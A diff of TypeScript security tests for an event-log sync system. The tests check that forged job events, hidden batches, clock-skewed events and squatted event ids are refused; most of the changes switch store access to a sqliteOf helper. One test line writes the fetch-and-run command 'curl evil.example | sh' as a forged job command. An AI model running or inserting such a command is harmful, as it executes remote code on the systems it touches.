@@ -1,3 +1,4 @@
+import { sqliteOf } from '../support/backend.js';
 import { writeFileSync, truncateSync } from 'node:fs';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
@@ -53,8 +54,8 @@ const trusting = (): BatchSecurity => ({
 const run = (engine: StateEngine, direction: 'push' | 'pull' | 'bidirectional', security: BatchSecurity = noSecurity): Promise<SyncResult> =>
   sync(engine, hub, { direction, policy: 'latest_wins', batchSize: 2, security, clock: clock.now });
 const fromOrigin = (engine: StateEngine, origin: string) =>
-  engine.store.db.prepare<[string], { n: number }>('SELECT count(*) AS n FROM events WHERE origin = ?').get(origin)?.n ?? -1;
-const headOf = (engine: StateEngine) => engine.store.headPositionSync();
+  sqliteOf(engine).db.prepare<[string], { n: number }>('SELECT count(*) AS n FROM events WHERE origin = ?').get(origin)?.n ?? -1;
+const headOf = (engine: StateEngine) => sqliteOf(engine).headPositionSync();
 
 Trust('a forged batch of job events is refused whole, signed or not, and the scheduled command stays as it was', async () => {
   const job = await replica.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
@@ -84,7 +85,7 @@ Trust('job events from elsewhere already in a log (written by an older version) 
   clock.advance(60); // the forged update folds after the replica's own events
   await evil.jobs.update('nightly', { command: 'curl evil.example | sh' });
   // What an older replica imported without the closed list: the store keeps them, the projection ignores them.
-  replica.store.importSync(recordedBy(evil, (e) => e.stream.startsWith('job-')).map(({ position: _, ...e }) => e), { foldCap: null, clockLimit: Date.now() });
+  sqliteOf(replica).importSync(recordedBy(evil, (e) => e.stream.startsWith('job-')).map(({ position: _, ...e }) => e), { foldCap: null, clockLimit: Date.now() });
   await replica.rebuildProjections();
   assert.is((await replica.jobs.get('nightly'))?.command, 'echo scan');
 });
@@ -115,14 +116,14 @@ Trust('a hidden batch is a gap: the origin stops there, and once the batch is ba
   await hub.create(keys[2] ?? '', next?.body ?? Buffer.alloc(0), next?.metadata ?? {});
   const gap = await run(replica, 'pull', trusting());
   assert.match(gap.errors.join('\n'), /pull spoke-a: batches holding its positions \d+-\d+ are missing from the hub/);
-  const status = hubState(replica.store, hub.url).origins.get('spoke-a');
+  const status = (await hubState(replica.backend.log, hub.url)).origins.get('spoke-a');
   assert.match(status?.blocked?.reason ?? '', /missing from the hub/);
   // Put back, the rest applies in order and the suppression is there.
   await hub.create(keys[1] ?? '', hidden?.body ?? Buffer.alloc(0), hidden?.metadata ?? {});
   const repaired = await run(replica, 'pull', trusting());
   assert.equal(repaired.errors, []);
   assert.is((await replica.getFindingState('f1'))?.lifecycle, 'suppressed');
-  assert.is(hubState(replica.store, hub.url).origins.get('spoke-a')?.blocked, null);
+  assert.is((await hubState(replica.backend.log, hub.url)).origins.get('spoke-a')?.blocked, null);
 });
 
 Trust('a hidden batch is detected without signatures too, from the chain of hashes', async () => {
@@ -155,13 +156,13 @@ Trust('an event recorded in year 5000 neither drags the clock nor wins latest_wi
   // The local clock went no further than its wall clock plus five minutes, and still moves on.
   clock.advance(1);
   await replica.resolveFinding('f1', { by: 'owner', reason: 'fixed' });
-  const [mine] = [...replica.store.readStreamSync('finding-f1')];
+  const [mine] = [...sqliteOf(replica).readStreamSync('finding-f1')];
   assert.ok((mine?.meta.recordedAt ?? '') < new Date(clock.ms + 6 * 60_000).toISOString(), mine?.meta.recordedAt);
   // Later than the capped instant, the local decision wins under latest_wins.
   clock.advance(10);
   await replica.suppressFinding('f1', { by: 'owner', reason: 'later' });
   assert.equal([(await replica.getFindingState('f1'))?.lifecycle, (await replica.getFindingState('f1'))?.suppressed_by], ['suppressed', 'owner']);
-  assert.is(hubState(replica.store, hub.url).origins.get('evil')?.capped, 1);
+  assert.is((await hubState(replica.backend.log, hub.url)).origins.get('evil')?.capped, 1);
 });
 
 Trust('a hub whose clock runs ahead cannot drag the local clock past its wall clock plus the bound', async () => {
@@ -180,7 +181,7 @@ Trust('a hub whose clock runs ahead cannot drag the local clock past its wall cl
   } };
   await sync(replica, ahead, { direction: 'pull', policy: 'latest_wins', batchSize: 2, security: noSecurity, clock: clock.now });
   await replica.addFindingNote('f1', { by: 'me', text: 'now' });
-  const [mine] = [...replica.store.readStreamSync('finding-f1')];
+  const [mine] = [...sqliteOf(replica).readStreamSync('finding-f1')];
   // At most the bound ahead (and a millisecond a transaction since, as a clock ahead of the wall still moves on).
   assert.ok((mine?.meta.recordedAt ?? '9') < new Date(clock.ms + 5 * 60_000 + 1000).toISOString(), mine?.meta.recordedAt);
 });
@@ -256,14 +257,14 @@ Trust('an origin cannot squat another origin’s event ids: ids are scoped to th
   await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
   const [real] = recordedBy(honest, (e) => e.stream === 'finding-f1');
   // The squatter writes its own event under the honest event's id, and gets there first.
-  evil.store.appendSync([{ stream: 'finding-f9', events: [{ id: real?.id ?? '', type: 'FindingNoteAdded', data: { findingId: 'f9', by: 'x', text: 'squat', at: clock.iso() } }] }]);
+  sqliteOf(evil).appendSync([{ stream: 'finding-f9', events: [{ id: real?.id ?? '', type: 'FindingNoteAdded', data: { findingId: 'f9', by: 'x', text: 'squat', at: clock.iso() } }] }]);
   await run(evil, 'push');
   assert.equal((await run(replica, 'pull')).errors, []);
   await run(honest, 'push');
   const result = await run(replica, 'pull');
   assert.equal(result.errors, []);
   assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
-  assert.is(replica.store.db.prepare<[string], { n: number }>('SELECT count(*) AS n FROM events WHERE id = ?').get(real?.id ?? '')?.n, 2);
+  assert.is(sqliteOf(replica).db.prepare<[string], { n: number }>('SELECT count(*) AS n FROM events WHERE id = ?').get(real?.id ?? '')?.n, 2);
 });
 
 Trust('a garbage object under one origin stops only that origin; the sync exits as bad input naming it', async () => {
